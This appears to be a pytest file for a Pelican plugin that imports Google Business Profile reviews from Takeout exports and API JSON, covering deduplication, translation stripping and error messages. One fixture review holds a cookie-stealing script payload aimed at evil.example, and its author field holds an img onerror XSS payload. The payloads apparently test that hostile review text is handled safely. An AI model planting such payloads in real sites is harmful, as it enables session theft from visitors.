"""`redress import google`: a Business Profile Takeout (folder and zip) and the API's JSON."""

from __future__ import annotations

import dataclasses
import datetime as dt
import json
from pathlib import Path

import pytest
from import_exports import google as files
from import_exports import google_play as play_files
from import_exports import trustpilot as trustpilot_files
from import_exports.others import shop_platform_exports
from pelican.plugins.redress.imports import google
from pelican.plugins.redress.imports.records import (
    ImportedReply,
    ImportedReview,
    RowProblem,
    Skip,
    UnreadableExport,
)
from pelican.plugins.redress.imports.tables import DUPLICATE


def utc(text: str) -> dt.datetime:
    return dt.datetime.fromisoformat(text).replace(tzinfo=dt.UTC)


def problem_line(path: Path) -> str:
    """The line `redress import` prints for a file it cannot read."""
    with pytest.raises(UnreadableExport) as caught:
        google.read([path])
    return caught.value.lines()[0]


def without_where(reviews: list[ImportedReview]) -> list[ImportedReview]:
    return [dataclasses.replace(r, where="") for r in reviews]


def expected(wheres: list[str]) -> list[ImportedReview]:
    """What files.REVIEWS are, read from the given places."""
    first, second, third, fourth, fifth = wheres
    return [
        ImportedReview(
            platform="google",
            platform_id="AbFvOqnQ1x2y3z4w5v6u7t8s9r0q",
            where=first,
            date=dt.datetime(2024, 3, 1, 14, 22, 10, 123456, tzinfo=dt.UTC),
            rating=5,
            text="Heel vriendelijk geholpen, fiets binnen een uur gerepareerd.",
            author="Jan de Vries",
            replies=[ImportedReply("Dank je wel, Jan!", utc("2024-03-02 09:15"))],
        ),
        ImportedReview(
            platform="google",
            platform_id="AbFvOqnR2y3z4w5v6u7t8s9r0q1p",
            where=second,
            date=utc("2024-03-10 08:00"),
            rating=2,
            text="Lange Wartezeit, unfreundliches Personal.",
            author="Lukas Becker",
            updated=dt.datetime(2024, 3, 11, 10, 30, 0, 500000, tzinfo=dt.UTC),
        ),
        ImportedReview(
            platform="google",
            platform_id="AbFvOqnS3z4w5v6u7t8s9r0q1p2o",
            where=third,
            date=utc("2024-04-05 17:45:30"),
            rating=4,
            text="Hea teenindus.",
            author="Mari Tamm",
            replies=[ImportedReply("Aitäh!", utc("2024-04-06 08:00"))],
        ),
        ImportedReview(
            platform="google",
            platform_id="AbFvOqnT4w5v6u7t8s9r0q1p2o3n",
            where=fourth,
            date=utc("2024-04-20 12:00"),
            rating=3,
        ),
        ImportedReview(
            platform="google",
            platform_id="AbFvOqnU5v6u7t8s9r0q1p2o3n4m",
            where=fifth,
            date=utc("2024-05-01 06:30"),
            rating=1,
            text="<script>document.location='https://evil.example/?c='+document.cookie</script>",
            author="<img src=x onerror=alert(1)>",
        ),
    ]


def test_the_api_json_is_read_review_by_review(tmp_path):
    path = files.api_json(tmp_path)

    batch = google.read([path])

    assert batch.reviews == expected([f"{path}:#{n}" for n in range(1, 6)])
    assert (batch.rows, batch.skips, batch.problems) == (5, [], [])


def test_a_takeout_folder_and_the_same_takeout_as_a_zip(tmp_path):
    folder = files.takeout_folder(tmp_path / "unpacked")
    zipped = files.takeout_zip(tmp_path)
    location = f"Takeout/Google Business Profile/account-{files.ACCOUNT}/location-{files.LOCATION}"

    from_folder = google.read([folder])
    from_zip = google.read([zipped])

    inside = [f"{location}/reviews.json:#{n}" for n in (1, 2, 3)] + [
        f"{location}/reviews-001.json:#{n}" for n in (1, 2)
    ]
    assert from_folder.reviews == expected([f"{folder}/{w}" for w in inside])
    assert from_zip.reviews == expected([f"{zipped}/{w}" for w in inside])
    assert (from_zip.rows, from_zip.skips, from_zip.problems) == (5, [], [])
    assert b"reviewId" not in b"".join(files.takeout_files().values())  # Takeout has only `name`


def test_the_owners_own_maps_reviews_in_a_bigger_takeout_are_left_alone(tmp_path):
    maps = {
        "type": "FeatureCollection",
        "features": [{"type": "Feature", "properties": {"Location": {"Business Name": "Bakkerij"}}}],
    }
    takeout = files.takeout_files() | {
        "Takeout/Maps (your places)/Reviews.json": json.dumps(maps).encode(),
        "Takeout/Maps (your places)/reviews-old.json": json.dumps(maps).encode(),
    }
    batch = google.read([files.takeout_zip(tmp_path, takeout)])
    assert (len(batch.reviews), batch.rows, batch.problems) == (5, 5, [])


def test_the_takeout_folder_may_be_given_at_any_depth(tmp_path):
    files.takeout_folder(tmp_path)
    deep = tmp_path / "Takeout" / "Google Business Profile"
    assert without_where(google.read([deep]).reviews) == without_where(expected([""] * 5))


def test_pages_saved_as_one_list_and_a_plain_list_of_reviews(tmp_path):
    pages = tmp_path / "pages.json"
    pages.write_text(
        json.dumps(
            [files.reviews_page(files.REVIEWS[:2], token="CiAKGj"), files.reviews_page(files.REVIEWS[2:])]
        ),
        encoding="utf-8",
    )
    plain = tmp_path / "plain.json"
    plain.write_text(json.dumps(files.REVIEWS), encoding="utf-8")

    for path in (pages, plain):
        assert without_where(google.read([path]).reviews) == without_where(expected([""] * 5))


@pytest.mark.parametrize(
    ("comment", "kept"),
    [
        ("(Translated by Google) Great bikes\n\n(Original)\nGeweldige fietsen", "Geweldige fietsen"),
        ("Geweldige fietsen\n\n(Translated by Google)\nGreat bikes", "Geweldige fietsen"),
        ("(Translated by Google) Great\r\n\r\n(Original)\r\nPrima\r\nTot ziens", "Prima\nTot ziens"),
        ("Just English, no translation.", "Just English, no translation."),
        ("(Translated by Google) Only the translation", "(Translated by Google) Only the translation"),
    ],
)
def test_only_the_reviewers_own_words_are_kept(tmp_path, comment, kept):
    path = files.api_json(tmp_path, [files.review("AbC", "FIVE", "2024-01-01T00:00:00Z", comment=comment)])
    assert google.read([path]).reviews[0].text == kept


def test_rating_only_and_unrated_reviews(tmp_path):
    reviews = [
        files.review("rated", "FOUR", "2024-01-01T00:00:00Z"),
        files.review("words", "STAR_RATING_UNSPECIFIED", "2024-01-02T00:00:00Z", comment="Geen sterren."),
        files.review("nothing", "STAR_RATING_UNSPECIFIED", "2024-01-03T00:00:00Z"),
    ]
    path = files.api_json(tmp_path, reviews)

    batch = google.read([path])

    assert [(r.platform_id, r.rating, r.text) for r in batch.reviews] == [
        ("rated", 4, ""),
        ("words", None, "Geen sterren."),
    ]
    assert batch.skips == [Skip(f"{path}:#3", "no text and no rating")]
    assert batch.rows == 3


def test_an_anonymous_reviewer_has_no_name(tmp_path):
    path = files.api_json(tmp_path, [files.review("anon", "FIVE", "2024-01-01T00:00:00Z", anonymous=True)])
    assert google.read([path]).reviews[0].author == ""


def test_a_reply_time_without_words_is_a_fact_not_an_empty_reply(tmp_path):
    item = files.review(
        "r", "THREE", "2024-01-01T00:00:00Z", comment="Ok.", reply=("", "2024-01-02T10:00:00Z")
    )
    review = google.read([files.api_json(tmp_path, [item])]).reviews[0]
    assert (review.replies, review.replied_on) == ([], utc("2024-01-02 10:00"))


def test_a_bad_review_is_a_problem_and_the_others_still_import(tmp_path):
    reviews = json.loads(json.dumps(files.REVIEWS))
    reviews[1]["starRating"] = "SIX"
    del reviews[2]["createTime"]
    reviews[3]["reviewReply"] = {"comment": "Sorry", "updateTime": "yesterday"}
    del reviews[4]["reviewId"], reviews[4]["name"]
    path = files.api_json(tmp_path, reviews)

    batch = google.read([path])

    assert batch.problems == [
        RowProblem(f"{path}:#2", "starRating", "'SIX' is not one of ONE, TWO, THREE, FOUR, FIVE"),
        RowProblem(f"{path}:#3", "createTime", "is empty"),
        RowProblem(
            f"{path}:#4",
            "reviewReply.updateTime",
            "'yesterday' is not a date and time like 2024-03-01 14:30:00",
        ),
        RowProblem(f"{path}:#5", "reviewId", "is missing, and so is name; Google gives every review one"),
    ]
    assert [r.platform_id for r in batch.reviews] == ["AbFvOqnQ1x2y3z4w5v6u7t8s9r0q"]
    assert batch.rows == 5


def test_the_takeout_and_a_later_api_download_give_each_review_once_at_its_latest(tmp_path):
    zipped = files.takeout_zip(tmp_path)
    later = json.loads(json.dumps(files.REVIEWS))
    later[1]["comment"] = "Inzwischen freundlich geklärt."
    later[1]["starRating"] = "FOUR"
    later[1]["updateTime"] = "2024-06-01T09:00:00Z"
    api = files.api_json(tmp_path, later)

    batch = google.read([api, zipped])  # the newer file first: order does not decide, the edit does

    assert len(batch.reviews) == 5
    edited = batch.reviews[1]
    assert (edited.where, edited.rating, edited.text) == (f"{api}:#2", 4, "Inzwischen freundlich geklärt.")
    assert edited.updated == utc("2024-06-01 09:00")
    assert [s.reason for s in batch.skips] == [DUPLICATE] * 5
    assert batch.rows == 10


def test_what_cannot_be_read_names_what_was_expected_and_found(tmp_path):
    empty = tmp_path / "empty"
    (empty / "Takeout").mkdir(parents=True)
    (empty / "Takeout" / "archive_browser.html").write_text("<html></html>", encoding="utf-8")
    assert problem_line(empty) == (
        f"{empty}: not a Google export: expected "
        "Takeout/Google Business Profile/account-*/location-*/reviews*.json; "
        "found Takeout/archive_browser.html"
    )

    no_reviews = files.takeout_zip(tmp_path, {"Takeout/Google Business Profile/account-1/posts.json": b"{}"})
    assert problem_line(no_reviews).endswith("found Takeout/Google Business Profile/account-1/posts.json")

    other_json = tmp_path / "locations.json"
    other_json.write_text('{"locations": [], "nextPageToken": "x"}', encoding="utf-8")
    assert problem_line(other_json) == (
        f"{other_json}: not a Google export: expected "
        '{"reviews": [...]} with reviewId or name, starRating, createTime; '
        "found the keys locations, nextPageToken"
    )

    broken = tmp_path / "broken.json"
    broken.write_bytes(b'{"reviews": [')
    assert "not valid JSON (Expecting value at line 1, column 14)" in problem_line(broken)

    missing = tmp_path / "takeout-002.zip"
    assert problem_line(missing).startswith(
        f"{missing}: not a Google export: the file cannot be read ([Errno 2]"
    )

    spreadsheet = trustpilot_files.business_xlsx(tmp_path)
    assert problem_line(spreadsheet).endswith("found an XLSX workbook")


def test_no_private_value_of_the_export_reaches_a_record(tmp_path):
    batch = google.read([files.takeout_zip(tmp_path)])
    for review in batch.reviews:
        values = json.dumps(dataclasses.asdict(review), default=str).replace(review.where, "")
        assert files.ACCOUNT not in values and "googleusercontent" not in values
        assert "A Google User" not in values


def test_recognise_knows_its_own_files_and_no_others(tmp_path):
    unpacked = files.takeout_folder(tmp_path / "unpacked")
    own = [files.api_json(tmp_path), files.takeout_zip(tmp_path), unpacked, unpacked / "Takeout"]
    others = [
        trustpilot_files.business_csv(tmp_path),
        trustpilot_files.business_xlsx(tmp_path),
        trustpilot_files.page_html(tmp_path),
        trustpilot_files.reviews_json(tmp_path),
        play_files.console_csv(tmp_path, [play_files.console_row(utc("2024-03-01 10:00"), 5, "Top")]),
        play_files.scraper_csv(
            tmp_path, [play_files.scraper_row("gp:x", "Jan", "Top", 5, "2024-03-01 10:00")]
        ),
        tmp_path / "missing.json",
    ]
    assert [google.recognise(p) for p in own] == [True] * len(own)
    others += shop_platform_exports(tmp_path / "shops")
    assert [google.recognise(p) for p in others] == [False] * len(others)
